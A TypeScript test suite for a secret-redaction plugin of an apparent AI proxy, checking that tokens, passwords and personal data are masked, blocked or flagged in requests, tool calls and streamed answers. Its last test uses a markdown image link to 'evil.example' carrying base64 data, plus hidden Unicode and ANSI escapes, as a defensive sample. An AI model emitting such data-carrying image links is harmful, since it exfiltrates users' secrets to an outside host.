import { readmeExample, runPlugin } from '@sallyport/testkit';
import { beforeAll, describe, expect, it } from 'vitest';
import { secretRedaction } from './plugin.ts';

beforeAll(() => secretRedaction.load!());

const token = `ghp_${'wXq2Rt9LmZ4vKp7NsB1cYh6Jd3Gf8QaTe5Ui'}`;

const post = (body: unknown) => ({
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: typeof body === 'string' ? body : JSON.stringify(body),
});

describe('secret-redaction of requests', () => {
  it('takes secrets out of every text, and leaves all else as it was written', async () => {
    const run = runPlugin(secretRedaction, { guarding_mode: 'INPUT' });
    const body = (secret: string) =>
      `{"model":"m",  "messages":[{"role":"user","content":"My token is ${secret}, \\u00e4h."},` +
      `{"role":"assistant","tool_calls":[{"function":{"name":"f","arguments":"{\\"k\\":\\"${secret}\\"}"}}]}], "n":1.0}`;
    const { upstream, event } = await run.trace(post(body(token)));
    expect(upstream?.body).toBe(body('[REDACTED:github-token]'));
    expect(event.guards).toMatchObject([
      { phase: 'input', outcome: 'masked', count: 2, reason: 'github-token (2)', mode: 'INPUT' },
    ]);
    expect(JSON.stringify(event)).not.toContain(token.slice(4, 20));
  });

  it('refuses sessions over WebSockets, whose messages it does not see, whichever way it looks', async () => {
    const headers = { upgrade: 'websocket', connection: 'upgrade', 'sec-websocket-version': '13' };
    for (const config of [{ guarding_mode: 'INPUT' }, { guarding_mode: 'OUTPUT' }, { action: 'flag' }])
      expect(await runPlugin(secretRedaction, config)({ headers })).toMatchObject({ status: 501 });
  });

  it('takes them out of the arguments of tools', async () => {
    const call = (secret: string) => ({
      jsonrpc: '2.0',
      id: 1,
      method: 'tools/call',
      params: { name: 'deploy', arguments: { env: { TOKEN: secret }, list: [secret] } },
    });
    const { upstream } = await runPlugin(secretRedaction, { guarding_mode: 'INPUT' }).trace(post(call(token)));
    expect(JSON.parse(upstream?.body ?? '')).toEqual(call('[REDACTED:github-token]'));
  });

  it('looks at the name that a text is given to', async () => {
    const run = runPlugin(secretRedaction, { guarding_mode: 'INPUT' });
    const { upstream } = await run.trace(
      post({ password: 'hunter2!', keyword: 'hunter2!', api_key: 'kq82nd0sk2mz91ldp3' }),
    );
    expect(JSON.parse(upstream?.body ?? '')).toEqual({
      password: '[REDACTED:password]',
      keyword: 'hunter2!',
      api_key: '[REDACTED:secret]',
    });
  });

  it('goes through long ones in turns, and finds the same', async () => {
    const prose = 'All work and no play makes Jack a dull boy. '.repeat(3000);
    const at = (secret: string) => ({ a: `${prose.slice(0, 32_760)} ${secret} ${prose}`, b: secret, password: secret });
    let turns = 0;
    let isOver = false;
    const count = () => {
      turns++;
      if (!isOver) setImmediate(count);
    };
    count();
    const { upstream } = await runPlugin(secretRedaction, { guarding_mode: 'INPUT' }).trace(post(at(token)));
    isOver = true;
    expect(JSON.parse(upstream?.body ?? '')).toEqual(at('[REDACTED:github-token]'));
    expect(turns).toBeGreaterThan(4);
  });

  it('refuses with kinds and counts where it blocks', async () => {
    const run = runPlugin(secretRedaction, {
      guarding_mode: 'INPUT',
      action: 'block',
      detect: ['secrets', 'personal'],
    });
    const { outcome, upstream } = await run.trace(post({ a: token, b: `${token} ann@example.com` }));
    expect(outcome).toMatchObject({ status: 400, code: 'secret_redaction_blocked' });
    expect(JSON.stringify(outcome)).toContain('The request holds what may not pass: github-token (2), email (1).');
    expect(upstream).toBeUndefined();
  });

  it('lets pass and says so where it flags', async () => {
    const run = runPlugin(secretRedaction, { guarding_mode: 'INPUT', action: 'flag' });
    const { upstream, event } = await run.trace(post({ a: token }));
    expect(upstream?.body).toBe(JSON.stringify({ a: token }));
    expect(event.guards).toMatchObject([{ outcome: 'flagged', reason: 'github-token (1)' }]);
  });

  it('looks for what it is told to, and for nothing else', async () => {
    const run = runPlugin(secretRedaction, {
      guarding_mode: 'INPUT',
      detect: ['personal', 'jwt'],
      except: ['phone'],
      custom_patterns: [{ name: 'badge', pattern: 'BADGE-[0-9]{6}' }],
    });
    const { upstream } = await run.trace(
      post({ a: token, b: 'ann@example.com', c: '+49 30 1234567', d: 'BADGE-123456' }),
    );
    expect(JSON.parse(upstream?.body ?? '')).toEqual({
      a: token,
      b: '[REDACTED:email]',
      c: '+49 30 1234567',
      d: '[REDACTED:badge]',
    });
  });
});

describe('secret-redaction', () => {
  it.each([
    [{ custom_patterns: [{ name: 'x', pattern: 'a+' }] }, 'custom_patterns.0.pattern', 'not bounded'],
    [{ custom_patterns: [{ name: 'x', pattern: '(?<=a)b' }] }, 'custom_patterns.0.pattern', 'cannot be looked for'],
    [{ action: 'recover', guarding_mode: 'OUTPUT' }, 'action', 'INPUT or BOTH'],
    [{ detect: ['jwt'], except: ['secrets'] }, 'detect', 'nothing to look for'],
  ])('refuses %j', (config, path, message) => {
    const problems = secretRedaction.check?.(secretRedaction.schema.parse(config), {
      route: undefined,
      service: undefined,
      tags: [],
    });
    expect(problems).toEqual([{ path, message: expect.stringContaining(message) }]);
  });

  it('has an example that can be loaded', () => {
    expect(secretRedaction.schema.safeParse(readmeExample(import.meta.url, 'secret-redaction')).success).toBe(true);
  });
});

describe('secret-redaction of answers', () => {
  const json = { 'content-type': 'application/json' };
  const sse = { 'content-type': 'text/event-stream' };
  const event = (value: unknown) => `data: ${JSON.stringify(value)}\n\n`;

  it('takes secrets out of whole ones, and leaves all else as it was written', async () => {
    const body = (secret: string) => `{"a": "x ${secret}",\n "n": 1.0, "deep":[{"b":"${secret}"}]}`;
    const run = runPlugin(secretRedaction, {}, { upstream: { headers: json, body: body(token) } });
    const { reply, event } = await run.trace();
    expect(reply.body).toBe(body('[REDACTED:github-token]'));
    expect(event.guards).toMatchObject([{ phase: 'output', outcome: 'masked', count: 2, reason: 'github-token (2)' }]);
  });

  it('takes them out of results of tools, in text, structure and resources', async () => {
    const result = (secret: string) => ({
      jsonrpc: '2.0',
      id: 1,
      result: {
        content: [
          { type: 'text', text: JSON.stringify({ token: secret }) },
          { type: 'resource', resource: { uri: 'file:///a', text: `a ${secret} b` } },
        ],
        structuredContent: { rows: [{ token: secret }] },
      },
    });
    for (const [headers, body] of [
      [json, JSON.stringify(result(token))],
      [sse, [event(result(token))]],
    ] as const) {
      const call = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'f', arguments: {} } };
      const { reply } = await runPlugin(secretRedaction, {}, { upstream: { headers, body } }).trace(post(call));
      expect(reply.body).toContain(JSON.stringify(result('[REDACTED:github-token]')));
    }
  });

  it('refuses a whole one where it blocks', async () => {
    const upstream = { headers: json, body: JSON.stringify({ a: token }) };
    const { reply } = await runPlugin(secretRedaction, { action: 'block' }, { upstream }).trace();
    expect(reply.status).toBe(400);
    expect(reply.body).toContain('The answer holds what may not pass: github-token (1).');
    expect(reply.body).not.toContain(token);
  });

  it('only tells of them where it flags', async () => {
    const upstream = {
      headers: sse,
      body: [event({ content: token.slice(0, 9) }), event({ content: token.slice(9) })],
    };
    const { reply, event: record } = await runPlugin(secretRedaction, { action: 'flag' }, { upstream }).trace();
    expect(reply.body).toBe(upstream.body.join(''));
    expect(record.guards).toMatchObject([{ phase: 'output', outcome: 'flagged', reason: 'github-token (1)' }]);
  });

  it.each(['INPUT', 'BOTH'])('gives the caller back what it has sent (%s)', async (guarding_mode) => {
    const other = `npm_${'wXq2Rt9LmZ4vKp7NsB1cYh6Jd3Gf8QaTe5Ui'}`;
    const run = runPlugin(
      secretRedaction,
      { action: 'recover', guarding_mode },
      {
        upstream: (x) => ({
          headers: sse,
          // Word for word what the request says, in small pieces, and something that nobody has sent.
          body: [...`${x.body?.toString().replaceAll('"', "'") ?? ''} [REDACTED:jwt:7] ${other}`].map((letter) =>
            event({ choices: [{ index: 0, delta: { content: letter } }] }),
          ),
        }),
      },
    );
    const { upstream, reply, event: record } = await run.trace(post({ a: `${token} and ${other}`, b: token }));
    expect(upstream?.body).toBe(
      '{"a":"[REDACTED:github-token:1] and [REDACTED:npm-token:2]","b":"[REDACTED:github-token:1]"}',
    );
    const said = [...reply.body.matchAll(/"content":"((?:[^"\\]|\\.)*)"/g)].map(([, text]) => text).join('');
    const ownFind = guarding_mode === 'BOTH' ? '[REDACTED:npm-token]' : other;
    expect(said).toBe(`{'a':'${token} and ${other}','b':'${token}'} [REDACTED:jwt:7] ${ownFind}`);
    expect(JSON.stringify(record)).not.toContain(token);
  });

  it('takes out what is hidden, and images that tell something', async () => {
    const upstream = {
      headers: json,
      body: JSON.stringify({ text: 'a\u202eb\u001b[31mc ![x](https://evil.example/?d=c2VjcmV0)' }),
    };
    const { reply } = await runPlugin(secretRedaction, { detect: ['hidden'] }, { upstream }).trace();
    expect(JSON.parse(reply.body)).toEqual({ text: 'abc ![x]([REDACTED:image-link])' });
  });
});
